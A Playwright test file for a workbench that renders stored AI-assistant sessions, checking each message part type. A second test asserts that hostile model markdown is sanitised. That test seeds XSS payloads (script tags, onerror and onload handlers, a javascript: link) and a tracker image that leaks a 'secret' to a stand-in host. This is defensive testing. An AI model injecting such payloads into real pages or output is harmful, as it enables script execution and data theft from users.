import { expect, test } from './testing/fixtures'
import { Workbench } from './page-models/workbench'
import { EVERY_PART_TYPE_TEXT as T, everyPartTypeFixture } from './testing/fixtures-data'
import { makeBuilders } from '../src/testing/fixture-builders'

test('a seeded session renders every part type as a reader wants it', async ({ page }) => {
  const app = new Workbench(page)
  await app.open()
  await app.seed((projectID) => everyPartTypeFixture({ projectID }))
  // Child sessions stay out of the top-level list: they are listed under their parent.
  await expect(app.sessionLink(new RegExp(`^${T.childSessionTitle}`))).toHaveCount(0)
  await expect(app.childSessionLink(new RegExp(T.childSessionTitle))).toHaveCount(1)
  await app.sessionLink(new RegExp(`^${T.sessionTitle}`)).click()
  const log = app.messages
  await expect(log).toBeVisible()

  // User message: typed text, text added by tabcode, an ignored aside, files, an agent mention, a subtask.
  const you = log.getByRole('article', { name: 'You' }).first()
  await expect(you).toContainText(T.userText)
  await expect(you).toContainText(T.syntheticText)
  await expect(you).toContainText(T.ignoredText)
  await expect(you).toContainText(T.fileName)
  await expect(you).toContainText(T.externalFileName)
  await expect(you).toContainText(T.agent)
  await expect(you.getByRole('group', { name: `Subtask: ${T.subtaskDescription}` })).toContainText(T.subtaskPrompt)

  const reply = log.getByRole('article', { name: `Assistant (${T.modelID})` }).first()
  // Markdown: a heading and a fenced code block, rendered as elements.
  await expect(reply.getByRole('heading', { name: T.assistantHeading })).toBeVisible()
  await expect(reply.locator('pre code')).toContainText("parse('- a")
  await expect(reply).toContainText(T.assistantText)

  // Reasoning is collapsible.
  const reasoning = reply.getByText('Reasoning', { exact: false }).first()
  await expect(reasoning).toBeVisible()
  const reasoningText = reply.getByText(T.reasoning)
  // Closed once the reasoning is done, as it is in this stored session.
  await expect(reasoningText).toBeHidden()
  await reasoning.click()
  await expect(reasoningText).toBeVisible()
  await reasoning.click()
  await expect(reasoningText).toBeHidden()

  // Tool cards by state, with duration, the interrupted mark and the cleared-for-the-model note.
  const tools = reply.getByRole('group', { name: /^Tool call: / })
  await expect(tools).toHaveCount(5)
  const completed = tools.filter({ hasText: T.toolCompletedTitle })
  await expect(completed).toContainText('completed')
  await expect(completed).toContainText('1.8 s')
  const output = completed.getByText(/^Output/)
  // How the command ended shows open (its last lines, the verdict among them); the head waits under Output.
  const ending = completed.getByRole('figure', { name: 'End of the output' })
  await expect(ending).toContainText(T.toolOutputTail)
  await expect(ending).toContainText('30 lines above')
  await expect(completed.getByText(T.toolCompletedOutput)).toBeHidden()
  await output.click()
  await expect(completed.getByText(T.toolCompletedOutput)).toBeVisible()
  await completed.getByRole('button', { name: /^Show all/ }).click()
  await expect(completed.locator('.long-text').getByText(T.toolOutputTail)).toBeVisible()
  const errored = tools.filter({ hasText: T.toolErrorText })
  await expect(errored).toContainText('interrupted')
  await expect(errored).toContainText('error')
  // The seeded turn has no live runner, so opening it repairs the calls left running or pending into interrupted
  // errors (crash recovery); live running and pending cards are shown by the loop specs while a reply streams.
  for (const subject of [T.toolRunningSubject, T.toolPendingName]) {
    await expect(tools.filter({ hasText: subject })).toContainText('interrupted')
    await expect(tools.filter({ hasText: subject })).toContainText('Tool execution aborted')
  }
  await expect(tools.filter({ hasText: T.toolCompactedTitle })).toContainText(/cleared/i)

  // Step usage, changed files, retry, message error.
  await expect(reply).toContainText('12k in · 830 out · 210 reasoning · 9k cache read · 1.2k cache write')
  await expect(reply).toContainText('$0.0123')
  // Once, in the footer: the step's own usage line and the snapshot hash only repeated it.
  await expect(reply.getByText(/12k in/)).toHaveCount(1)
  await expect(reply).not.toContainText(T.snapshot)
  await expect(reply.getByRole('group', { name: 'Changed files' })).not.toContainText('f00dfeed')
  await expect(reply).not.toContainText('step finished')
  await expect(reply.getByRole('group', { name: 'Changed files' })).toContainText(T.patchFile)
  await expect(reply).toContainText(T.retry)
  await expect(log).toContainText(T.messageError)
  await expect(log).toContainText(T.messageErrorText)

  // Compaction divider, the summary under it, and the conversation after it.
  await expect(log.getByRole('group', { name: T.compaction })).toContainText('Compacted automatically')
  await expect(log.getByRole('region', { name: 'Summary' })).toContainText(T.summaryText)
  await expect(log).toContainText(T.afterCompactionText)

  // Session totals in the header.
  await expect(app.main).toContainText('$0.0165')
  await page.screenshot({ path: 'test-results/screenshots/every-part-type.png', fullPage: true })
})

test('model markdown cannot run script or fetch external images by itself', async ({ page }) => {
  const app = new Workbench(page)
  const external: string[] = []
  page.on('request', (request) => {
    // Nothing leaves this machine: WebContainer (whose runtime is on StackBlitz) starts only when a command needs it.
    const url = new URL(request.url())
    if (url.hostname !== '127.0.0.1') external.push(request.url())
  })
  await app.open()
  const build = makeBuilders()
  await app.seed((projectID) => {
    const session = build.session({ projectID, title: 'Hostile output' })
    const user = build.user(session.id)
    const reply = build.assistant(session.id, user.id)
    const hostile = [
      'Look: <img src=x onerror="window.__pwned = 1"> and <script>window.__pwned = 2</script>',
      '[click me](javascript:window.__pwned=3) and [safe](https://example.com/docs)',
      '![tracker](https://tracker.example/pixel.png?leak=secret)',
      '<svg onload="window.__pwned = 4"></svg>',
    ].join('\n\n')
    return { sessions: [session], messages: [user, reply], parts: [build.text(user, 'show me'), build.text(reply, hostile)] }
  })
  await app.sessionLink(/^Hostile output/).click()
  const reply = app.messages.getByRole('article', { name: /^Assistant/ })
  await expect(reply).toContainText('click me')
  await expect(reply.getByRole('link', { name: 'click me' })).toHaveCount(0)
  await expect(reply.getByRole('link', { name: 'safe' })).toHaveAttribute('href', 'https://example.com/docs')
  const load = reply.getByRole('button', { name: /^Load image/ })
  await expect(load).toBeVisible()
  expect(await reply.locator('img').count()).toBe(0)
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined()
  expect(await reply.locator('script, [onerror], [onload]').count()).toBe(0)
  expect(external).toEqual([])
})
